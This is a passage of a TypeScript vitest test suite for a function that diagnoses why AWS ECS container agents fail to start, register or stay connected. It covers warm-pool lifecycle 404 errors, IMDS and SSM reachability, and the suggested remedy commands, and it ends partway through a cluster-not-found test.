import { describe, expect, it } from "vitest";
import {
  ACS_LINES,
  acsReport,
  FAILURE_LINES,
  failedReport,
  failedWith,
  healthyReport,
  LIFECYCLE_TEXT,
  REGISTERED_AGENT,
  RUNNING,
  withCheck,
  withImds,
  withVersion,
} from "../../test/helpers/reports.ts";
import type { FailureKind, ProbeReport } from "../probe/report-schema.ts";
import { type DiagnosisFacts, diagnose } from "./diagnose.ts";
import { AGENT_FAILURE_CAUSES, type AgentFailureCause, type Diagnosis, VERDICTS, type Verdict } from "./types.ts";

const facts = (report: ProbeReport, membership?: DiagnosisFacts["membership"]): DiagnosisFacts => ({
  probe: { ok: true, report },
  ssm: { pingStatus: "Online", status: "Success", responseCode: 0 },
  ...(membership ? { membership } : {}),
});

const edit = (r: ProbeReport, f: (r: ProbeReport) => void): ProbeReport => {
  const copy = structuredClone(r);
  f(copy);
  return copy;
};

const failureLine = (kind: FailureKind, text: string) => (r: ProbeReport) => {
  delete r.logs.lifecycle;
  delete r.logs.waiting;
  r.logs.failure = { file: "ecs-agent.log", n: 20, t: "2025-02-04T07:02:30Z", kind, text };
  r.logs.error = { file: "ecs-agent.log", n: 20, t: "2025-02-04T07:02:30Z", text };
  r.logs.init = { ...r.logs.init!, code: 1, text: 'level=info msg="ECS Agent failed to start, retrying in 1s"' };
  r.service = { ...r.service, active: "activating", sub: "auto-restart", status: 1, restarts: 7 };
};

type Case = {
  name: string;
  facts: DiagnosisFacts;
  verdict: Verdict;
  cause?: AgentFailureCause;
  restart?: boolean;
};

const cases: Case[] = [
  // --- lifecycle-404:*: the critical line decides, the CURRENT IMDS answer picks the sub-verdict.
  {
    name: "404 line, IMDS InService now -> ready",
    facts: facts(withImds(failedReport(), 200, "InService")),
    verdict: "lifecycle-404:ready",
    restart: true,
  },
  {
    name: "404 line, IMDS 404 now -> blocked",
    facts: facts(failedReport()),
    verdict: "lifecycle-404:blocked",
    restart: false,
  },
  ...["Warmed:Stopped", "Warmed:Running", "Warmed:Hibernated", "Warmed:Pending"].map(
    (s): Case => ({
      name: `404 line, IMDS ${s} -> warmed`,
      facts: facts(withImds(failedReport(), 200, s)),
      verdict: "lifecycle-404:warmed",
      restart: false,
    }),
  ),
  ...["Pending", "Pending:Wait", "Standby", "Detached", "Terminating:Wait", "inservice"].map(
    (s): Case => ({
      name: `404 line, IMDS ${s} (not InService) -> blocked, never ready`,
      facts: facts(withImds(failedReport(), 200, s)),
      verdict: "lifecycle-404:blocked",
      restart: false,
    }),
  ),
  {
    name: "the same line on fixed 1.93.1 (issue #4644), IMDS InService -> ready",
    facts: facts(withVersion(withImds(failedReport(), 200, "InService"), "1.93.1")),
    verdict: "lifecycle-404:ready",
    restart: true,
  },
  {
    name: "the same line on fixed 1.93.1, IMDS 404 -> blocked",
    facts: facts(withVersion(failedReport(), "1.93.1")),
    verdict: "lifecycle-404:blocked",
  },
  {
    name: "404 line but the check is off now (quoted value): blocked, yet a restart will work",
    facts: facts(withCheck(failedReport(), '"true"')),
    verdict: "lifecycle-404:blocked",
    restart: true,
  },
  {
    name: "404 line, check now false, IMDS Warmed:Stopped: warmed, a restart will work",
    facts: facts(withCheck(withImds(failedReport(), 200, "Warmed:Stopped"), "false")),
    verdict: "lifecycle-404:warmed",
    restart: true,
  },
  {
    name: "404 line in JSON format, IMDSv1 fallback answering InService -> ready",
    facts: facts(
      edit(withImds(failedReport(), 200, "InService"), (r) => {
        r.imds.token = 404;
        r.logs.lifecycle!.text =
          '{"level":"critical","time":"2025-02-04T07:02:21Z","msg":"Could not determine target lifecycle of instance: operation error ec2imds: GetMetadata, http response error StatusCode: 404, request to EC2 IMDS failed","module":"agent.go"}';
      }),
    ),
    verdict: "lifecycle-404:ready",
    restart: true,
  },
  {
    name: "a 404 line followed by a registration success is history (registered now) -> healthy",
    facts: facts(
      edit(healthyReport("1.89.3"), (r) => {
        r.logs.files = ["ecs-agent.log.2025-02-04-07", "ecs-agent.log"];
        r.logs.lifecycle = { file: "ecs-agent.log.2025-02-04-07", n: 14, code: 404, count: 1, text: LIFECYCLE_TEXT };
        r.config.keys.ECS_WARM_POOLS_CHECK = ["true", 0, 2];
      }),
    ),
    verdict: "healthy",
  },
  {
    name: "a 404 line followed by a registration success, agent stopped later -> not lifecycle-404",
    facts: facts(
      edit(failedReport(), (r) => {
        r.logs.registered = { file: "ecs-agent.log", n: 30, text: "Instance registration completed successfully" };
        r.service = { ...r.service, active: "inactive", sub: "dead", result: "success", status: 0 };
      }),
    ),
    verdict: "agent-failed",
    cause: "exited",
  },
  {
    name: "an older 404 line while a newer agent run waits (warm pool) -> waiting",
    facts: facts(
      edit(withVersion(withImds(failedReport(), 200, "Warmed:Running"), "1.91.1"), (r) => {
        r.service = RUNNING;
        r.logs.started = { file: "ecs-agent.log", n: 40, version: "1.91.1" };
        r.logs.waiting = { file: "ecs-agent.log", n: 44 };
      }),
    ),
    verdict: "waiting",
  },
  {
    name: "a newer agent start after the 404 line, service dead, nothing else -> exited, not lifecycle-404",
    facts: facts(
      edit(withImds(failedReport(), 200, "InService"), (r) => {
        r.logs.started = { file: "ecs-agent.log", n: 50, version: "1.89.3" };
        r.service.status = 137;
      }),
    ),
    verdict: "agent-failed",
    cause: "exited",
    restart: false,
  },
  {
    name: "the 404 line in a rotated file, newer files without a start -> still current",
    facts: facts(
      edit(withImds(failedReport(), 200, "InService"), (r) => {
        r.logs.files = ["ecs-agent.log.2025-02-04-07", "ecs-agent.log.2025-02-04-08", "ecs-agent.log", "ecs-init.log"];
        r.logs.started = { file: "ecs-agent.log.2025-02-04-07", n: 3, version: "1.89.3" };
        r.logs.waiting = { file: "ecs-agent.log.2025-02-04-07", n: 13 };
        r.logs.lifecycle = { ...r.logs.lifecycle!, file: "ecs-agent.log.2025-02-04-07" };
      }),
    ),
    verdict: "lifecycle-404:ready",
    restart: true,
  },
  {
    name: "affected version, check on, 404, dead, but NO critical line -> not lifecycle-404 (the line decides)",
    facts: facts(
      edit(failedReport(), (r) => {
        delete r.logs.lifecycle;
      }),
    ),
    verdict: "agent-failed",
    cause: "exited",
  },
  {
    name: "lifecycle line with StatusCode 500 -> agent-failed lifecycle-other",
    facts: facts(
      edit(withImds(failedReport(), 200, "InService"), (r) => {
        r.logs.lifecycle = { ...r.logs.lifecycle!, code: 500, text: LIFECYCLE_TEXT.replace("404", "500") };
      }),
    ),
    verdict: "agent-failed",
    cause: "lifecycle-other",
    restart: false,
  },
  {
    name: "lifecycle line without a StatusCode -> agent-failed lifecycle-other",
    facts: facts(
      edit(failedReport(), (r) => {
        r.logs.lifecycle = {
          ...r.logs.lifecycle!,
          code: null,
          text: "Could not determine target lifecycle of instance: EOF",
        };
      }),
    ),
    verdict: "agent-failed",
    cause: "lifecycle-other",
  },
  // --- IMDS unreachable: never ready, whatever the logs say.
  ...(["timeout", "refused", "error", "skipped"] as const).map(
    (code): Case => ({
      name: `404 line, IMDS ${code} now -> imds-unreachable`,
      facts: facts(edit(withImds(failedReport(), code), (r) => (r.imds.token = code))),
      verdict: "imds-unreachable",
      restart: false,
    }),
  ),
  {
    name: "token refused (403) and GET 401 -> imds-unreachable",
    facts: facts(edit(withImds(failedReport(), 401), (r) => (r.imds.token = 403))),
    verdict: "imds-unreachable",
  },
  {
    name: "IMDS 500 on the lifecycle path -> imds-unreachable",
    facts: facts(withImds(failedReport(), 500)),
    verdict: "imds-unreachable",
  },
  // --- at-risk and healthy.
  ...["1", "t", "T", "true", "TRUE", "True", " true ", "true\t", "\u00a0true\u3000"].map(
    (v): Case => ({
      name: `registered, check ${JSON.stringify(v)}, 1.89.3, IMDS 404 -> at-risk`,
      facts: facts(withCheck(withImds(healthyReport("1.89.3"), 404), v)),
      verdict: "at-risk",
      restart: false,
    }),
  ),
  ...[
    '"true"',
    "'true'",
    "true # warm pools",
    "yes",
    "on",
    "tRUE",
    "",
    "  ",
    "\ufefftrue",
    "false",
    "0",
    undefined,
  ].map(
    (v): Case => ({
      name: `registered, check ${JSON.stringify(v)} (off for Go), 1.89.3, IMDS 404 -> healthy`,
      facts: facts(withCheck(withImds(healthyReport("1.89.3"), 404), v)),
      verdict: "healthy",
    }),
  ),
  ...["1.89.3", "1.90.0", "1.91.0"].map(
    (v): Case => ({
      name: `registered, check on, affected ${v}, IMDS 404 -> at-risk`,
      facts: facts(withCheck(withImds(healthyReport(v), 404), "true")),
      verdict: "at-risk",
    }),
  ),
  ...["1.59.0", "1.89.2", "1.91.1", "1.93.1", "1.110.0"].map(
    (v): Case => ({
      name: `registered, check on, unaffected ${v}, IMDS 404 -> healthy`,
      facts: facts(withCheck(withImds(healthyReport(v), 404), "true")),
      verdict: "healthy",
    }),
  ),
  {
    name: "registered, check on, affected, IMDS InService (in a group) -> healthy",
    facts: facts(withCheck(healthyReport("1.90.0"), "true")),
    verdict: "healthy",
  },
  {
    name: "registered, check on, affected, IMDS unreachable -> healthy (registration is what counts)",
    facts: facts(withCheck(withImds(healthyReport("1.90.0"), "timeout"), "true")),
    verdict: "healthy",
  },
  {
    name: "registered on an affected version found only through ecs-init",
    facts: facts(
      edit(withCheck(withImds(healthyReport("1.90.0"), 404), "1"), (r) => {
        r.agent = { code: 200, arn: "arn:aws:ecs:us-east-1:1:container-instance/x/y" };
        delete r.logs.started;
      }),
    ),
    verdict: "at-risk",
  },
  {
    name: "introspection 200 without an ARN is not registered",
    facts: facts(edit(failedReport(), (r) => (r.agent = { code: 200, cluster: "prod" }))),
    verdict: "lifecycle-404:blocked",
  },
  // --- waiting.
  {
    name: "fixed agent alive, waiting line, IMDS 404 -> waiting",
    facts: facts(
      edit(withVersion(failedReport(), "1.91.1"), (r) => {
        r.service = RUNNING;
        delete r.logs.lifecycle;
        delete r.logs.init;
      }),
    ),
    verdict: "waiting",
  },
  {
    name: "agent alive, waiting line rotated out, check on, Warmed:Running -> waiting (inferred)",
    facts: facts(
      edit(withVersion(withImds(failedReport(), 200, "Warmed:Running"), "1.97.1"), (r) => {
        r.service = RUNNING;
        r.logs = { files: ["ecs-agent.log"], started: { file: "ecs-agent.log", n: 1, version: "1.97.1" } };
      }),
    ),
    verdict: "waiting",
  },
  {
    name: "agent alive, check off, not registered, no lines -> unknown",
    facts: facts(
      edit(withCheck(failedReport(), "false"), (r) => {
        r.service = RUNNING;
        r.logs = { files: ["ecs-agent.log"] };
      }),
    ),
    verdict: "unknown",
  },
  // --- agent-failed with named causes.
  ...(
    [
      ["imds-region", 'level=critical msg="Unable to communicate with EC2 Metadata service to infer region: EOF"'],
      [
        "credentials",
        'level=error msg="Error getting valid credentials: NoCredentialProviders: no valid providers in chain"',
      ],
      [
        "registration",
        'level=critical msg="Agent will terminally exit, unable to register container instance: AccessDenied"',
      ],
      [
        "state-mismatch",
        "level=critical msg=\"Data mismatch; saved cluster 'a' does not match configured cluster 'b'. Perhaps you want to delete the configured checkpoint file?\"",
      ],
      ["task-engine", 'level=critical msg="Unable to initialize new task engine: boltdb: timeout"'],
      ["docker", 'level=critical msg="Could not get supported docker versions."'],
      ["cgroups", 'level=critical msg="Unable to initialize cgroup root for ECS: mkdir /sys/fs/cgroup/ecs: read-only"'],
      [
        "cloud-init",
        'level=critical msg="Cloud-init failure detected: status: error. Userdata was not executed during instance boot. Refusing to start with potentially incorrect config."',
      ],
    ] as const
  ).map(
    ([kind, text]): Case => ({
      name: `failure line ${kind} -> agent-failed ${kind}`,
      facts: facts(edit(withImds(failedReport(), 200, "InService"), failureLine(kind, text))),
      verdict: "agent-failed",
      cause: kind,
      restart: false,
    }),
  ),
  {
    name: "a named failure before a later registration is history -> healthy",
    facts: facts(
      edit(healthyReport(), (r) => {
        r.logs.failure = { file: "ecs-agent.log", n: 2, kind: "credentials", text: "Error getting valid credentials" };
      }),
    ),
    verdict: "healthy",
  },
  {
    name: "service failed with status 1 and no lines -> agent-failed exited",
    facts: facts(
      edit(failedReport(), (r) => {
        r.logs = { files: [] };
        r.service.status = 1;
      }),
    ),
    verdict: "agent-failed",
    cause: "exited",
  },
  {
    name: "service active but ecs-init keeps retrying the agent, no named cause -> agent-failed exited",
    facts: facts(
      edit(withCheck(failedReport(), "false"), (r) => {
        r.service = RUNNING;
        r.logs = {
          files: ["ecs-agent.log", "ecs-init.log"],
          error: { file: "ecs-agent.log", n: 4, text: 'level=critical msg="Error loading config: boom"' },
          init: { file: "ecs-init.log", n: 7, code: 1, text: 'level=info msg="Agent exited with code 1"' },
        };
      }),
    ),
    verdict: "agent-failed",
    cause: "exited",
  },
  {
    name: "upstart host stopped -> agent-failed exited",
    facts: facts(
      edit(failedReport(), (r) => {
        delete r.logs.lifecycle;
        r.service = { init: "upstart", active: "inactive", sub: "ecs stop/waiting" };
      }),
    ),
    verdict: "agent-failed",
    cause: "exited",
  },
  {
    name: "no ecs unit, no ecs-init -> unknown",
    facts: facts(
      edit(failedReport(), (r) => {
        r.service = { init: "systemd", load: "not-found", active: "inactive", sub: "dead" };
        r.ecsInit = null;
        r.logs = { files: [] };
        r.config = { files: [], keys: {}, other: 0 };
      }),
    ),
    verdict: "unknown",
  },
  // --- disconnected.
  {
    name: "registered, running, last ACS line a failure -> disconnected",
    facts: facts(acsReport("failed")),
    verdict: "disconnected",
    restart: false,
  },
  // --- SSM outcomes.
  ...["Undeliverable", "DeliveryTimedOut", "Delivery Timed Out"].map(
    (d): Case => ({
      name: `SSM ${d} -> ssm-unreachable`,
      facts: { probe: undefined, ssm: { status: "TimedOut", statusDetails: d } },
      verdict: "ssm-unreachable",
    }),
  ),
  {
    name: "ping ConnectionLost, never sent -> ssm-unreachable",
    facts: { probe: undefined, ssm: { pingStatus: "ConnectionLost" } },
    verdict: "ssm-unreachable",
  },
  {
    name: "ping Inactive, never sent -> ssm-unreachable",
    facts: { probe: undefined, ssm: { pingStatus: "Inactive" } },
    verdict: "ssm-unreachable",
  },
  {
    name: "output not a report -> probe-failed",
    facts: {
      probe: { ok: false, error: "no probe report in the output" },
      ssm: { status: "Success", responseCode: 0 },
    },
    verdict: "probe-failed",
  },
  {
    name: "ExecutionTimedOut, no output -> probe-failed",
    facts: { probe: undefined, ssm: { pingStatus: "Online", status: "TimedOut", statusDetails: "ExecutionTimedOut" } },
    verdict: "probe-failed",
  },
  {
    name: "Failed with exit 127 and empty output -> probe-failed",
    facts: { probe: { ok: false, error: "the probe printed nothing" }, ssm: { status: "Failed", responseCode: 127 } },
    verdict: "probe-failed",
  },
  {
    name: "empty output and Undeliverable -> ssm-unreachable",
    facts: { probe: { ok: false, error: "the probe printed nothing" }, ssm: { statusDetails: "Undeliverable" } },
    verdict: "ssm-unreachable",
  },
  {
    name: "never probed, online -> unknown",
    facts: { probe: undefined, ssm: { pingStatus: "Online" } },
    verdict: "unknown",
  },
];

function checkShape(d: Diagnosis) {
  expect(VERDICTS).toContain(d.verdict);
  expect(d.summary.length).toBeGreaterThan(20);
  expect(d.summary).not.toMatch(/undefined|null|NaN|\[object/);
  expect(d.evidence.length).toBeGreaterThan(0);
  for (const e of d.evidence) {
    expect(e.label).toBeTruthy();
    expect(typeof e.value).toBe("string");
    expect(e.source.kind).toBeTruthy();
    if (e.match) {
      expect(e.match[0]).toBeGreaterThanOrEqual(0);
      expect(e.match[1]).toBeLessThanOrEqual(e.value.length);
      expect(e.match[0]).toBeLessThan(e.match[1]);
    }
  }
  if (d.verdict !== "healthy") expect(d.remedies.length).toBeGreaterThan(0);
  if (d.verdict === "agent-failed") expect(d.cause).toBeDefined();
  else expect(d.cause).toBeUndefined();
}

describe("diagnose", () => {
  it.each(cases)("$name", (c) => {
    const d = diagnose(c.facts);
    expect(d.verdict).toBe(c.verdict);
    if (c.cause) expect(d.cause).toBe(c.cause);
    if (c.restart !== undefined) expect(d.restartWillWork).toBe(c.restart);
    checkShape(d);
  });

  it("covers every verdict and every agent-failed cause", () => {
    const verdicts = new Set(cases.map((c) => diagnose(c.facts).verdict));
    expect([...verdicts].sort()).toEqual([...VERDICTS].sort());
    const causes = new Set(cases.map((c) => diagnose(c.facts).cause).filter(Boolean));
    for (const k of [
      "imds-region",
      "credentials",
      "registration",
      "state-mismatch",
      "task-engine",
      "docker",
      "cgroups",
      "cloud-init",
      "lifecycle-other",
      "exited",
    ]) {
      expect(causes).toContain(k);
    }
  });

  it("never calls anything lifecycle-404:ready unless IMDS answers InService now (exhaustive over states)", () => {
    const lcs: [ProbeReport["imds"]["lcCode"], string | null][] = [
      [200, "InService"],
      [200, "Warmed:Stopped"],
      [200, "Pending"],
      [200, "Standby"],
      [200, ""],
      [404, null],
      [401, null],
      [500, null],
      ["timeout", null],
      ["refused", null],
      ["error", null],
      ["skipped", null],
    ];
    const services: ProbeReport["service"][] = [
      failedReport().service,
      RUNNING,
      { init: "unknown" },
      { init: "upstart", active: "inactive", sub: "ecs stop/waiting" },
    ];
    let ready = 0;
    for (const [lc, state] of lcs)
      for (const service of services)
        for (const agent of [{ code: "refused" as const }, REGISTERED_AGENT()])
          for (const check of ["true", "false", undefined])
            for (const version of ["1.89.3", "1.93.1"]) {
              const r = edit(withCheck(withVersion(withImds(failedReport(), lc, state), version), check), (x) => {
                x.service = service;
                x.agent = agent;
              });
              const d = diagnose(facts(r));
              if (d.verdict === "lifecycle-404:ready") {
                ready++;
                expect(r.imds).toMatchObject({ lcCode: 200, lcState: "InService" });
                expect(r.agent.code).not.toBe(200);
                expect(d.restartWillWork).toBe(true);
              }
              if (d.restartWillWork) expect(d.verdict).toMatch(/^lifecycle-404:/);
              checkShape(d);
            }
    expect(ready).toBeGreaterThan(0);
  });

  it("shows the lifecycle line with its source and highlights the matching part", () => {
    const d = diagnose(facts(withImds(failedReport(), 200, "InService")));
    const line = d.evidence[0]!;
    expect(line.source).toEqual({
      kind: "log",
      file: "/var/log/ecs/ecs-agent.log",
      line: 14,
      time: "2025-02-04T07:02:21Z",
    });
    expect(line.value).toBe(LIFECYCLE_TEXT);
    const [a, b] = line.match!;
    expect(line.value.slice(a, b)).toMatch(/^Could not determine target lifecycle of instance: .*StatusCode: 404$/);
    const imds = d.evidence.find((e) => e.source.kind === "imds")!;
    expect(imds).toMatchObject({
      value: "InService",
      source: { kind: "imds", path: "latest/meta-data/autoscaling/target-lifecycle-state", httpCode: 200 },
    });
    const cfg = d.evidence.find((e) => e.source.kind === "config")!;
    expect(cfg).toMatchObject({
      value: "ECS_WARM_POOLS_CHECK=true",
      source: { kind: "config", file: "/etc/ecs/ecs.config", key: "ECS_WARM_POOLS_CHECK" },
    });
    expect(d.evidence.some((e) => e.source.kind === "service" && e.value.includes("ExecMainStatus=5"))).toBe(true);
    expect(d.remedies.map((r) => r.id)).toEqual(["restart", "upgrade-agent"]);
    expect(d.remedies[0]!.command).toBe("sudo systemctl restart ecs");
    expect(d.remedies[1]!.title).toContain("1.91.1 or later");
  });

  it("highlights the structured (newer) form of the lifecycle line up to its status code", () => {
    const r = withImds(failedReport(), 200, "InService");
    r.logs.lifecycle!.text =
      'level=critical time=2025-02-04T07:02:21Z msg="Could not determine target lifecycle of instance" error="operation error ec2imds: GetMetadata, http response error StatusCode: 404, request to EC2 IMDS failed" module=agent.go';
    const e = diagnose(facts(r)).evidence[0]!;
    expect(e.value.slice(...e.match!)).toMatch(/^Could not determine target lifecycle of instance.*StatusCode: 404$/);
  });

  it("blocked offers the config line, the upgrade, and the attach only when not in a group", () => {
    const d = diagnose(facts(failedReport(), { group: "web", lifecycleState: "InService" }));
    expect(d.verdict).toBe("lifecycle-404:blocked");
    const ids = d.remedies.map((r) => r.id);
    expect(ids).toContain("disable-check-and-restart");
    expect(ids).toContain("upgrade-agent");
    expect(d.remedies.find((r) => r.id === "disable-check-and-restart")!.configLine).toBe("ECS_WARM_POOLS_CHECK=false");
    expect(d.evidence.some((e) => e.source.kind === "api" && e.value === "InService")).toBe(true);
    // Already in the group: no attach, but a look at why the group publishes no state.
    expect(ids).not.toContain("attach-to-group");
    expect(d.remedies[0]!.command).toContain("SuspendedProcesses");
    const alone = diagnose(facts(failedReport()));
    expect(alone.remedies.find((r) => r.id === "attach-to-group")!.command).toContain("i-0abc123def4567890");
  });

  it("a published state other than InService: blocked, restart once InService", () => {
    const d = diagnose(facts(withImds(failedReport(), 200, "Pending:Wait")));
    expect(d.verdict).toBe("lifecycle-404:blocked");
    expect(d.summary).toContain("Pending:Wait");
    expect(d.remedies.map((r) => r.id)).toEqual(["wait-for-scale-out", "disable-check-and-restart", "upgrade-agent"]);
  });

  it("upstart hosts get the upstart restart command", () => {
    const d = diagnose(
      facts(
        edit(withImds(failedReport(), 200, "InService"), (r) => {
          r.service = { init: "upstart", active: "inactive", sub: "ecs stop/waiting" };
        }),
      ),
    );
    expect(d.verdict).toBe("lifecycle-404:ready");
    expect(d.remedies[0]!.command).toBe("sudo stop ecs; sudo start ecs");
  });

  it("is pure: the same facts give the same diagnosis and the facts are not changed", () => {
    const f = facts(withImds(failedReport(), 200, "InService"));
    const before = structuredClone(f);
    expect(diagnose(f)).toEqual(diagnose(f));
    expect(f).toEqual(before);
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Issue 16: every other reason an instance does not join, and ECS's own view.

const ecsFacts = (report: ProbeReport, ecs: DiagnosisFacts["ecs"], membership?: DiagnosisFacts["membership"]) => ({
  ...facts(report, membership),
  ...(ecs ? { ecs } : {}),
});

const ECS_ARN = REGISTERED_AGENT().arn!;
const ECS_DISCONNECTED = {
  registered: true,
  clustersSearched: 1,
  cluster: "prod",
  arn: ECS_ARN,
  status: "ACTIVE",
  agentConnected: false,
  agentVersion: "1.105.0",
};
const ECS_CONNECTED = { ...ECS_DISCONNECTED, agentConnected: true };

const remedyOf = (d: Diagnosis, id: string) => d.remedies.find((r) => r.id === id);
const labels = (d: Diagnosis) => d.evidence.map((e) => e.label).join("\n");

describe("diagnose: disconnected (registered, running, not connected to ECS)", () => {
  it.each(["failed", "idle", "closed"] as const)("last ACS line %s -> disconnected, a restart is not the fix", (s) => {
    const d = diagnose(facts(acsReport(s)));
    expect(d.verdict).toBe("disconnected");
    expect(d.restartWillWork).toBe(false);
    checkShape(d);
    const line = d.evidence[0]!;
    expect(line.source).toEqual({
      kind: "log",
      file: "/var/log/ecs/ecs-agent.log",
      line: 40,
      time: "2025-06-02T10:14:03Z",
    });
    expect(line.value).toBe(ACS_LINES[s]);
    expect(line.value.slice(...line.match!)).toMatch(/ACS/);
    const route = remedyOf(d, "check-ecs-route")!;
    expect(route.command).toContain("ecs-a-1.us-east-1.amazonaws.com");
    expect(route.command).toContain("ecs-t-1.us-east-1.amazonaws.com");
    expect(route.why).toMatch(/NAT gateway.*VPC endpoints.*proxy/);
    expect(remedyOf(d, "restart")!.why).toMatch(/only then/);
    expect(d.summary).toMatch(/no `Connected to ACS endpoint` since/);
  });

  it("trap: connected again after an earlier failure -> healthy", () => {
    expect(diagnose(facts(acsReport("connected"))).verdict).toBe("healthy");
  });

  it("trap: an ACS failure in a rotated file before the current run's start and registration -> healthy", () => {
    const r = edit(acsReport("failed"), (x) => {
      x.logs.files = ["ecs-agent.log.2025-06-01-09", "ecs-agent.log"];
      x.logs.acs = { ...x.logs.acs!, file: "ecs-agent.log.2025-06-01-09", n: 300 };
    });
    expect(diagnose(facts(r)).verdict).toBe("healthy");
  });

  it("ECS says agentConnected=false while the log says connected -> disconnected (ECS knows)", () => {
    const d = diagnose(ecsFacts(acsReport("connected"), ECS_DISCONNECTED));
    expect(d.verdict).toBe("disconnected");
    expect(d.summary).toContain("ECS reports agentConnected=false");
    const e = d.evidence.find((x) => x.source.kind === "api" && x.source.field === "agentConnected")!;
    expect(e.value.slice(...e.match!)).toBe("agentConnected=false");
  });

  it("ECS says connected while the last line is an idle close -> healthy (reconnected since)", () => {
    expect(diagnose(ecsFacts(acsReport("idle"), ECS_CONNECTED)).verdict).toBe("healthy");
  });

  it("ECS describes an older registration (another ARN): its agentConnected says nothing of this agent", () => {
    const old = { ...ECS_DISCONNECTED, arn: `${ECS_ARN.slice(0, -4)}ffff` };
    expect(diagnose(ecsFacts(acsReport("connected"), old)).verdict).toBe("healthy");
  });

  it("disconnected while at risk: no restart offered (the next start dies on the 404), the upgrade instead", () => {
    const r = withCheck(withImds(acsReport("failed", "1.90.0"), 404), "true");
    const d = diagnose(facts(r));
    expect(d.verdict).toBe("disconnected");
    expect(remedyOf(d, "restart")).toBeUndefined();
    expect(remedyOf(d, "upgrade-agent")).toBeDefined();
    expect(d.summary).toContain("Do not restart it");
  });

  it("a proxy without NO_PROXY on a disconnected agent: the NO_PROXY line is offered", () => {
    const r = edit(acsReport("failed"), (x) => {
      x.proxy = { where: ["config"], missing: ["169.254.170.2"] };
    });
    const d = diagnose(facts(r));
    expect(d.verdict).toBe("disconnected");
    expect(remedyOf(d, "set-no-proxy")!.configLine).toBe("NO_PROXY=169.254.169.254,169.254.170.2,/var/run/docker.sock");
  });

  it.each([
    ["ConnectionLost, never sent", { pingStatus: "ConnectionLost" }, undefined],
    ["Undeliverable", { pingStatus: "Online", status: "Failed", statusDetails: "Undeliverable" }, undefined],
    ["probe output unusable", { pingStatus: "Online", status: "Success" }, { ok: false as const, error: "no report" }],
  ])("without a probe (%s), ECS registered with agentConnected=false -> disconnected", (_n, ssm, probe) => {
    const d = diagnose({ probe, ssm, ecs: ECS_DISCONNECTED });
    expect(d.verdict).toBe("disconnected");
    expect(d.restartWillWork).toBe(false);
    checkShape(d);
    expect(d.evidence[0]!.source).toEqual({
      kind: "api",
      api: "ecs:DescribeContainerInstances",
      field: "agentConnected",
    });
    if (ssm.pingStatus === "ConnectionLost") expect(d.summary).toContain("ConnectionLost");
  });

  it("not managed by SSM, ECS registered with agentConnected=false -> disconnected, saying SSM does not manage it", () => {
    const d = diagnose({ probe: undefined, ssm: { statusDetails: "NotManaged" }, ecs: ECS_DISCONNECTED });
    expect(d.verdict).toBe("disconnected");
    expect(d.summary).toContain("SSM does not manage it");
  });

  it("without a probe, ECS registered and connected -> stays ssm-unreachable, with ECS's view as evidence", () => {
    const d = diagnose({ probe: undefined, ssm: { pingStatus: "ConnectionLost" }, ecs: ECS_CONNECTED });
    expect(d.verdict).toBe("ssm-unreachable");
    expect(d.evidence.some((e) => e.value.includes("agentConnected=true"))).toBe(true);
  });
});

describe("diagnose: agent-failed causes beyond the log kinds", () => {
  it("docker.service failed while ecs loops in auto-restart -> docker-down, whatever the logs say", () => {
    const r = edit(failedWith("docker", FAILURE_LINES.dockerVersions, { status: 1 }), (x) => {
      x.service = { ...x.service, active: "activating", sub: "auto-restart", result: "exit-code", restarts: 42 };
      x.deps = {
        docker: { load: "loaded", active: "failed", sub: "failed", result: "exit-code" },
        containerd: { load: "loaded", active: "active", sub: "running", result: "success" },
      };
    });
    const d = diagnose(facts(r));
    expect(d).toMatchObject({ verdict: "agent-failed", cause: "docker-down", restartWillWork: false });
    checkShape(d);
    expect(d.evidence[0]).toMatchObject({
      value: "LoadState=loaded ActiveState=failed SubState=failed Result=exit-code",
      source: { kind: "service", unit: "docker", property: "ActiveState" },
    });
    expect(d.remedies[0]!.command).toBe("sudo systemctl start docker && sudo systemctl restart ecs");
    expect(d.remedies[1]!.command).toContain("journalctl -u docker");
  });

  it("docker down with a current 404 line and IMDS InService -> docker-down, never lifecycle-404:ready", () => {
    const r = edit(withImds(failedReport(), 200, "InService"), (x) => {
      x.deps = { docker: { load: "loaded", active: "inactive", sub: "dead", result: "success" } };
    });
    const d = diagnose(facts(r));
    expect(d.cause).toBe("docker-down");
    expect(d.restartWillWork).toBe(false);
  });

  it("saved state from another cluster -> state-mismatch: stop, remove agent.db (or ecs_agent_data.json), start", () => {
    const d = diagnose(facts(failedWith("state-mismatch", FAILURE_LINES.stateMismatch)));
    expect(d).toMatchObject({ verdict: "agent-failed", cause: "state-mismatch", restartWillWork: false });
    expect(d.evidence[0]!.value.slice(...d.evidence[0]!.match!)).toBe(
      "Data mismatch; saved cluster 'staging' does not match configured cluster 'prod'",
    );
    expect(d.remedies[0]!.command).toBe(
      "sudo systemctl stop ecs && sudo rm -f /var/lib/ecs/data/agent.db /var/lib/ecs/data/ecs_agent_data.json && sudo systemctl start ecs",
    );
    expect(d.evidence.some((e) => e.value === "ECS_CLUSTER=prod")).toBe(true);
    expect(d.summary).toContain("(saved 'staging', configured 'prod')");
  });

  it.each([
    ["the probe names it", failedWith("cluster-not-found", FAILURE_LINES.clusterTerminal), undefined],
    [
      "a registration line saying Cluster not found",
      failedWith("registration", FAILURE_LINES.clusterNotFound),
      undefined,
    ],
    [
      "ECS has no such cluster",
      failedWith("registration", 'level=error msg="Unable to register as a container instance with ECS: boom"'),
      { registered: false, clustersSearched: 3, clusterMissing: "prod" },
    ],
    [
      "no line at all, ECS has no such cluster",
      edit(failedWith("registration", "x"), (x) => {
        delete x.logs.failure;
        delete x.logs.error;
      }),
      { registered: false, clustersSearched: 3, clusterMissing: "prod" },
    ],
  ])(
    "cluster not found (%s): fix ECS_CLUSTER (value, file, line) or create it; a restart will not help",
    (_n, r, ecs) => {
      const d = diagnose(ecsFacts(r, ecs));
      expect(d).toMatchObject({ verdict: "agent-failed", cause: "cluster-not-found", restartWillWork: false });
      checkShape(d);
      expect(d.summary).toContain("a restart alone fails the same way");
      const fix = remedyOf(d, "fix-cluster")!;
      expect(fix.title).toContain("ECS_CLUSTER=prod, /etc/ecs/ecs.config line 1");
      expect(fix.command).toContain("/etc/ecs/ecs.config");
      expect(remedyOf(d, "create-cluster")!.command).toContain("aws ecs create-cluster --cluster-name prod");
      const cfg = d.evidence.find((e) => e.source.kind === "config")!;
      expect(cfg).toMatchObject({
        value: "ECS_CLUSTER=prod",
        source: { file: "/etc/ecs/ecs.config", key: "ECS_CLUSTER" },
      });
      expect(cfg.label).toContain("line 1");
